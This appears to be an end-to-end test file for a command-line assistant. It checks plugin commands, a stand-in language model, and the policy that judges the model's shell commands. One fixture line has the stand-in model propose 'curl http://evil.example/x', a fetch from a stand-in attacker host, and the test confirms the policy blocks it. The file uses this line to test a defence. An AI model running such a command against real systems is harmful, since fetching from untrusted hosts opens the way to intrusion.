// The assistant's optional parts through the real server: a workspace plugin, and a model
// behind a local OpenAI-compatible stand-in whose commands are judged like any other.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { existsSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { connect, startServer } from "./server.mjs";

const KEY = "sk-e2e-secret-key";
const seen = [];
let model;
let srv;

/** Answers like an OpenAI-compatible server; the command depends on the instruction. */
function standin() {
  return new Promise((ok) => {
    const s = createServer((req, res) => {
      let body = "";
      req.on("data", (d) => (body += d));
      req.on("end", () => {
        const json = JSON.parse(body);
        seen.push({ auth: req.headers.authorization, body: json });
        const said = json.messages[1].content;
        const command = said.includes("wibble") ? "curl http://evil.example/x" : "du -s .";
        const content = JSON.stringify({ command, explanation: "From the stand-in." });
        res.setHeader("content-type", "application/json");
        res.end(JSON.stringify({ choices: [{ index: 0, message: { role: "assistant", content } }] }));
      });
    });
    s.listen(0, "127.0.0.1", () => ok(s));
  });
}

before(async () => {
  model = await standin();
  const home = mkdtempSync(join(tmpdir(), "atajo-home-"));
  srv = await startServer(
    ["--model-url", `http://127.0.0.1:${model.address().port}/v1`, "--model", "standin"],
    {
      env: { ATAJO_MODEL_KEY: KEY, HOME: home, XDG_CONFIG_HOME: join(home, ".config"), ATAJO_LOG: "debug" },
      prepare: (root) => {
        mkdirSync(join(root, ".atajo", "plugins"), { recursive: true });
        writeFileSync(join(root, "notas.txt"), "hola\n");
        writeFileSync(
          join(root, ".atajo", "plugins", "backup.toml"),
          [
            "[[command]]",
            'name = "backup"',
            'phrases.es = ["respalda {file}"]',
            'phrases.en = ["back up {file}"]',
            'slots.file = "path"',
            'template = "cp -- {file} {file}.bak"',
            'explanation.es = "Copia {file} a {file}.bak"',
            "",
          ].join("\n"),
        );
      },
    },
  );
});
after(async () => {
  await srv.stop();
  model.close();
});

function ask(socket, text) {
  return new Promise((ok) => {
    const id = `a${Math.random()}`;
    let plan;
    const onPlan = (p) => p.id === id && (plan = p);
    socket.on("plan", onPlan);
    socket.on("exit", function onExit(x) {
      if (x.id !== id) return;
      socket.off("plan", onPlan);
      socket.off("exit", onExit);
      ok({ plan, exit: x });
    });
    socket.emit("instruction", { id, text });
  });
}

test("a workspace plugin answers first, and its command runs through the policy", async () => {
  const a = await connect(srv.base, { auth: { token: srv.token } });
  const { plan, exit } = await ask(a, "respalda notas.txt");
  assert.equal(plan.source, "plugin:backup");
  assert.equal(plan.command, "cp -- notas.txt notas.txt.bak");
  assert.equal(plan.explanation, "Copia «notas.txt» a «notas.txt».bak");
  assert.match(plan.details, /copia archivos o carpetas/);
  assert.equal(exit.code, 0);
  assert.ok(existsSync(join(srv.root, "notas.txt.bak")));
  a.close();
});

test("the model answers what the rules do not understand; its commands are judged", async () => {
  const a = await connect(srv.base, { auth: { token: srv.token } });
  const ok = await ask(a, "ponder the quux thoroughly");
  assert.equal(ok.plan.source, "model");
  assert.equal(ok.plan.command, "du -s .");
  assert.equal(ok.plan.verdict.allowed, true);
  assert.match(ok.plan.details, /measures disk usage/);
  assert.equal(ok.exit.code, 0);

  const bad = await ask(a, "frobnicate the wibble over the wire");
  assert.equal(bad.plan.source, "model");
  assert.equal(bad.plan.command, "curl http://evil.example/x");
  assert.equal(bad.plan.verdict.allowed, false);
  assert.match(bad.plan.verdict.reason, /network/);
  assert.match(bad.plan.details, /would not run it/);
  assert.equal(bad.exit.code, -1);

  // The rules answered these without the model: it was asked exactly twice, with the key.
  await ask(a, "crea la carpeta fotos");
  assert.equal(seen.length, 2);
  for (const r of seen) {
    assert.equal(r.auth, `Bearer ${KEY}`);
    assert.equal(r.body.model, "standin");
  }
  assert.ok(!srv.stderr().includes(KEY), "the key must never reach the log");
  a.close();
});
